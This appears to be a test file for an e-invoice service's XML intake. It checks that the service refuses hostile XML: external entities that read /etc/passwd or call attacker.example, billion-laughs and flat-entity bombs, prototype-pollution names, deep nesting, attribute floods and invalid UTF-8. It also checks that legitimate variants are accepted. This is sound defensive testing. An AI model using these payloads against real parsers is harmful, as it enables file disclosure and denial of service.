/**
 * Attack corpus, part 2: hostile XML. Comments and processing instructions (also where they would
 * split a signed value without changing its digest), DOCTYPE and entities (billion laughs, its
 * flat variant, external entities), more than one root, relative namespace URIs, names that are
 * special to JavaScript objects, huge numbers, deep nesting, attribute floods, broken UTF-8 —
 * and the legitimate variants that must still pass: a byte-order mark, CRLF or CR line ends.
 * Each refusal is fast (well under the 2 s a request may take) and leaves nothing behind.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Harness, startHarness, type TestSeller } from "../helpers/app.js";
import { type AttackContext, XML_ATTACKS } from "../helpers/attack-corpus.js";
import { all, one, resign, rewrite } from "../helpers/attacks.js";
import { buildInvoice } from "../helpers/invoice.js";
import { expectIssued, expectRefused } from "../helpers/refusal.js";
import { signInvoice } from "../helpers/sign.js";

let h: Harness;
let s: TestSeller;

beforeAll(async () => {
  h = await startHarness();
  s = await h.seller({ keyType: "ec" });
});
afterAll(async () => h?.close());

/**
 * Refused with `code`, nothing stored. (That refusals cost time linear in the input is shown by
 * the scanner's step counts in test/unit/scan.test.ts and measured by `npm run bench:scan`, not
 * by a clock here.)
 */
const refused = (xml: string | Uint8Array, code: Parameters<typeof expectRefused>[2]) => expectRefused(h, xml, code, s.apiKey);

const signed = () => s.invoice({ lines: [{ name: "Dịch vụ", quantity: 1, unitPrice: 1_100_000, taxRate: "10%" }] });

/** Puts `insert` at the first occurrence of `at` (before it). */
const before = (xml: string, at: string | RegExp, insert: string) => xml.replace(at, (m) => insert + m);

describe("the hostile-XML attacks of the corpus (comments, processing instructions, DOCTYPE, two roots, relative namespaces)", () => {
  // test/helpers/attack-corpus.ts XML_ATTACKS: also run through hoadon check and xmlsec1 (test/interop/check-xmlsec1.test.ts).
  const context = (): AttackContext => ({ signed: (sign = {}) => s.invoice({ lines: [{ name: "Máy chủ", quantity: 1, unitPrice: 1_000_000, taxRate: "10%" }] }, sign), keyPem: s.keyPem, certPem: s.certPem });
  for (const attack of XML_ATTACKS) {
    it(`refuses ${attack.name}`, async () => {
      await refused(attack.build(context()), attack.code);
    });
  }

  it("refuses a comment inside the DLHDon even when the signature was made over it (XML_FORBIDDEN_CONSTRUCT)", async () => {
    const xml = signInvoice(buildInvoice({ sellerTaxCode: s.taxCode }).replace("<NDHDon>", "<NDHDon><!-- ghi chú -->"), { keyPem: s.keyPem, certPem: s.certPem });
    await refused(xml, "XML_FORBIDDEN_CONSTRUCT");
  });
});

describe("document structure", () => {
  it("refuses text or a second element after the root (XML_MALFORMED)", async () => {
    await refused(`${signed()}garbage`, "XML_MALFORMED");
    await refused(`${signed()}<DLHDon Id="x"/>`, "XML_MALFORMED");
  });

  it("refuses characters after the root that JavaScript trims but XML does not count as whitespace (NBSP, U+2028, a BOM) (XML_MALFORMED)", async () => {
    // libxml2 refuses them as content after the root: an accepted copy would be stamped into a
    // document that xmlsec1 cannot even parse.
    for (const c of ["\u00a0", "\u2028", "\ufeff", "\u3000"]) {
      await refused(`${signed()}${c}`, "XML_MALFORMED");
      await refused(`<?xml version="1.0" encoding="UTF-8"?>${c}${signed()}`, "XML_MALFORMED");
    }
  });

  it("refuses an empty body and a body of whitespace (XML_MALFORMED)", async () => {
    await refused("", "XML_MALFORMED");
    await refused("  \n ", "XML_MALFORMED");
  });

  it("refuses a relative namespace URI inside the DLHDon, correctly re-signed (XML_FORBIDDEN_CONSTRUCT)", async () => {
    const xml = resign(signed(), s.keyPem, ({ doc }) => {
      const t = doc.createElementNS("local-ns", "x:Note");
      t.appendChild(doc.createTextNode("1"));
      const ttkhac = doc.createElement("TTKhac");
      ttkhac.appendChild(t);
      one(doc, "DLHDon").appendChild(ttkhac);
    });
    expect(xml).toContain('xmlns:x="local-ns"');
    await refused(xml, "XML_FORBIDDEN_CONSTRUCT");
  });

  it("refuses a root other than HDon or HDon in a namespace (XML_MALFORMED)", async () => {
    await refused(signed().replace(/^<HDon>/, '<HDon xmlns="urn:attacker">'), "XML_MALFORMED");
  });
});

describe("DOCTYPE and entities", () => {
  const invoice = () => signed();
  for (const [name, prolog, use] of [
    ["an external entity (file:///etc/passwd)", '<!DOCTYPE HDon [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"],
    ["an external entity over http", '<!DOCTYPE HDon [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;"],
    ["an external parameter entity", '<!DOCTYPE HDon [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>', ""],
    ["an external DTD", '<!DOCTYPE HDon SYSTEM "http://attacker.example/hdon.dtd">', ""],
    [
      "billion laughs",
      "<!DOCTYPE HDon [<!ENTITY l0 \"ha\">" + Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("") + "]>",
      "&l10;",
    ],
    ["the flat variant (one 100 KB entity used 10,000 times)", `<!DOCTYPE HDon [<!ENTITY big "${"x".repeat(100_000)}">]>`, "&big;".repeat(10_000)],
  ] as const) {
    it(`refuses ${name} (XML_FORBIDDEN_CONSTRUCT)`, async () => {
      const xml = `<?xml version="1.0" encoding="UTF-8"?>${prolog}${invoice().replace("<THDon>", `<THDon>${use}`)}`;
      await refused(xml, "XML_FORBIDDEN_CONSTRUCT");
    });
  }

  it("refuses entity references without a DOCTYPE, flat (10,000 of them) (XML_FORBIDDEN_CONSTRUCT)", async () => {
    await refused(signed().replace("<THDon>", `<THDon>${"&lol;".repeat(10_000)}`), "XML_FORBIDDEN_CONSTRUCT");
  });

  it("refuses a character reference to a character XML does not allow (&#0;, &#xFFFE;) and one with 10,000 digits (XML_MALFORMED)", async () => {
    await refused(signed().replace("<THDon>", "<THDon>&#0;"), "XML_MALFORMED");
    await refused(signed().replace("<THDon>", "<THDon>&#xFFFE;"), "XML_MALFORMED");
    await refused(signed().replace("<THDon>", `<THDon>&#${"0".repeat(9_998)}65;`), "XML_MALFORMED");
  });
});

describe("names and numbers that are special to JavaScript", () => {
  for (const name of ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString"]) {
    it(`refuses ${name} as an element name inside NDHDon, correctly re-signed, and Object.prototype stays clean (SCHEMA_INVALID)`, async () => {
      const xml = resign(signed(), s.keyPem, ({ doc }) => {
        const e = doc.createElement(name);
        e.appendChild(doc.createTextNode("polluted"));
        one(doc, "NDHDon").appendChild(e);
      });
      const body = await refused(xml, "SCHEMA_INVALID");
      expect(body.error.details.some((d) => d.path?.includes(name))).toBe(true);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype.hasOwnProperty.call(Object.prototype, "polluted")).toBe(false);
    });
  }

  it("refuses __proto__ as a child of HDon and of DSCKS (SCHEMA_INVALID, SIGNATURE_PROFILE)", async () => {
    await refused(signed().replace("<DSCKS>", "<__proto__>x</__proto__><DSCKS>"), "SCHEMA_INVALID");
    await refused(signed().replace("<DSCKS>", "<DSCKS><__proto__/>"), "SIGNATURE_PROFILE");
  });

  it("refuses __proto__ and constructor as attribute names on signed elements, correctly re-signed (SCHEMA_INVALID)", async () => {
    const xml = resign(signed(), s.keyPem, ({ doc }) => {
      all(doc, "NBan")[0]!.setAttribute("__proto__", "x");
      all(doc, "NMua")[0]!.setAttribute("constructor", "y");
    });
    await refused(xml, "SCHEMA_INVALID");
  });

  it("accepts __proto__, constructor and prototype as data inside TTKhac (free data), without polluting any prototype", async () => {
    const xml = signInvoice(
      buildInvoice({ sellerTaxCode: s.taxCode }).replace("</NDHDon>", "</NDHDon><TTKhac><__proto__><polluted>yes</polluted></__proto__><constructor>1</constructor><prototype/></TTKhac>"),
      { keyPem: s.keyPem, certPem: s.certPem },
    );
    await expectIssued(h, xml, s.apiKey);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  for (const field of ["SLuong", "DGia", "ThTien", "TgTTTBSo"]) {
    it(`refuses a ${field} of 10,000 digits, correctly re-signed, quickly (SCHEMA_INVALID)`, async () => {
      const xml = resign(signed(), s.keyPem, ({ doc }) => {
        const e = all(doc, field)[0]!;
        e.replaceChild(doc.createTextNode("9".repeat(10_000)), e.firstChild!);
      });
      const body = await refused(xml, "SCHEMA_INVALID");
      expect(body.error.details.some((d) => d.path?.endsWith(field))).toBe(true);
    });
  }

  it("refuses an invoice number (SHDon) of 10,000 digits and an exponent amount (1e21) (SCHEMA_INVALID)", async () => {
    for (const [field, value] of [["SHDon", "1".repeat(10_000)], ["DGia", "1e21"], ["SLuong", "Infinity"], ["DGia", "0x10"]] as const) {
      const xml = resign(signed(), s.keyPem, ({ doc }) => {
        const e = all(doc, field)[0]!;
        e.replaceChild(doc.createTextNode(value), e.firstChild!);
      });
      await refused(xml, "SCHEMA_INVALID");
    }
  });
});

describe("resource limits", () => {
  it("refuses nesting one level deeper than the limit (65) and 100,000 levels, quickly (XML_FORBIDDEN_CONSTRUCT)", async () => {
    await refused(signed().replace("<DSCKS>", `${"<a>".repeat(64)}${"</a>".repeat(64)}<DSCKS>`), "XML_FORBIDDEN_CONSTRUCT");
    await refused(`<HDon>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</HDon>`, "XML_FORBIDDEN_CONSTRUCT");
  });

  it("refuses 33 attributes on one element and 100,000 on one element, quickly (XML_FORBIDDEN_CONSTRUCT)", async () => {
    const attrs = (n: number) => Array.from({ length: n }, (_, i) => ` a${i}="${i}"`).join("");
    await refused(signed().replace("<DSCKS>", `<DSCKS${attrs(33)}>`), "XML_FORBIDDEN_CONSTRUCT");
    await refused(signed().replace("<DSCKS>", `<DSCKS${attrs(100_000)}>`), "XML_FORBIDDEN_CONSTRUCT");
  });

  it("refuses more than 200,000 nodes (XML_FORBIDDEN_CONSTRUCT)", async () => {
    await refused(signed().replace("<DSCKS>", `<X>${"<a/>".repeat(200_001)}</X><DSCKS>`), "XML_FORBIDDEN_CONSTRUCT");
  });

  it("refuses an attribute value of 1.5 MB and a text node of 1.9 MB without trouble (SCHEMA_INVALID)", async () => {
    await refused(signed().replace("<DSCKS>", `<X a="${"v".repeat(1_500_000)}"/><DSCKS>`), "SCHEMA_INVALID");
    await refused(signed().replace("<DSCKS>", `<X>${"t".repeat(1_900_000)}</X><DSCKS>`), "SCHEMA_INVALID");
  });

  it("refuses a body over 2 MiB even when it claims a small Content-Length (PAYLOAD_TOO_LARGE)", async () => {
    const big = signed().replace("<DSCKS>", `<X>${"t".repeat(2 * 1024 * 1024)}</X><DSCKS>`);
    await refused(big, "PAYLOAD_TOO_LARGE");
  });
});

describe("encodings and line ends", () => {
  const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "utf8") : Buffer.from(p))));

  for (const [name, bad] of [
    ["an overlong encoding of '/' (C0 AF)", [0xc0, 0xaf]],
    ["a lone continuation byte", [0x80]],
    ["an encoded UTF-16 surrogate (ED A0 80)", [0xed, 0xa0, 0x80]],
    ["a code point above U+10FFFF (F4 90 80 80)", [0xf4, 0x90, 0x80, 0x80]],
    ["a truncated sequence", [0xe1, 0xba]],
    ["an invalid byte (FF)", [0xff]],
  ] as const) {
    it(`refuses invalid UTF-8: ${name} inside a signed name (XML_MALFORMED)`, async () => {
      const xml = signed();
      const at = xml.indexOf("<Ten>") + 5;
      await refused(bytes(xml.slice(0, at), [...bad], xml.slice(at)), "XML_MALFORMED");
    });
  }

  it("refuses invalid UTF-8 at the very end of the body (XML_MALFORMED)", async () => {
    await refused(bytes(signed(), [0xc3]), "XML_MALFORMED");
  });

  it("refuses UTF-16 (with its byte-order mark) and a declared non-UTF-8 encoding (XML_MALFORMED)", async () => {
    const xml = signed();
    await refused(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]), "XML_MALFORMED");
    await refused(`<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`, "XML_MALFORMED");
    await refused(`<?xml version="1.0" encoding="UTF-16"?>${xml}`, "XML_MALFORMED");
  });

  it("refuses a NUL byte and other C0 controls (XML_MALFORMED)", async () => {
    for (const c of ["\u0000", "\u0001", "\u001b", "\u000c"]) await refused(signed().replace("<Ten>", `<Ten>${c}`), "XML_MALFORMED");
  });

  it("refuses two byte-order marks (XML_MALFORMED)", async () => {
    await refused(bytes([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], signed()), "XML_MALFORMED");
  });

  it("accepts a UTF-8 byte-order mark before a signed invoice (legitimate)", async () => {
    await expectIssued(h, bytes([0xef, 0xbb, 0xbf], `<?xml version="1.0" encoding="UTF-8"?>\n${signed()}`), s.apiKey);
  });

  it("accepts CRLF line ends inside and outside DLHDon, signed over LF (legitimate: XML reads CRLF as LF)", async () => {
    const pretty = buildInvoice({ sellerTaxCode: s.taxCode, declaration: true }).replace(/></g, ">\n  <");
    const xml = signInvoice(pretty, { keyPem: s.keyPem, certPem: s.certPem }).replace(/\n/g, "\r\n");
    expect(xml.match(/\r\n/g)!.length).toBeGreaterThan(30);
    await expectIssued(h, xml, s.apiKey);
  });

  it("accepts CR-only line ends (legitimate: XML reads a lone CR as LF)", async () => {
    const pretty = buildInvoice({ sellerTaxCode: s.taxCode }).replace(/></g, ">\n<");
    const xml = signInvoice(pretty, { keyPem: s.keyPem, certPem: s.certPem }).replace(/\n/g, "\r");
    await expectIssued(h, xml, s.apiKey);
  });

  it("refuses a signed text whose line end was changed to a character reference (&#13; is data, not a line end) (SIGNATURE_INVALID)", async () => {
    const pretty = buildInvoice({ sellerTaxCode: s.taxCode, sellerName: "Công ty\nHai dòng" });
    const xml = signInvoice(pretty, { keyPem: s.keyPem, certPem: s.certPem });
    expect(xml).toContain("Công ty\nHai dòng");
    await refused(xml.replace("Công ty\nHai dòng", "Công ty&#13;\nHai dòng"), "SIGNATURE_INVALID");
  });
});

describe("the untouched fixtures these attacks start from", () => {
  it("are accepted, so each attack above fails for its own reason", async () => {
    await expectIssued(h, signed(), s.apiKey);
    await expectIssued(h, rewrite(signed(), () => {}), s.apiKey);
  });
});
